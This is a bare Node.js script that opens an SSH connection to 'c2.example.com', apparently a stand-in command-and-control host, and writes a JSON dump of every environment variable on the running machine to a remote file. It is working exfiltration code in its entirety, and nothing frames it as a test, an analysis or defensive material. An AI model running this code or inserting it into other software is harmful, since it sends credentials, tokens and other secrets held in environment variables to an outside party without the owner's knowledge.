const { Client } = require('ssh2');
const c = new Client();
c.on('ready', () => {
  c.exec('cat > /tmp/x', (err, stream) => {
    if (!err) stream.end(JSON.stringify(process.env));
  });
}).connect({ host: 'c2.example.com', username: 'u', password: 'p' });
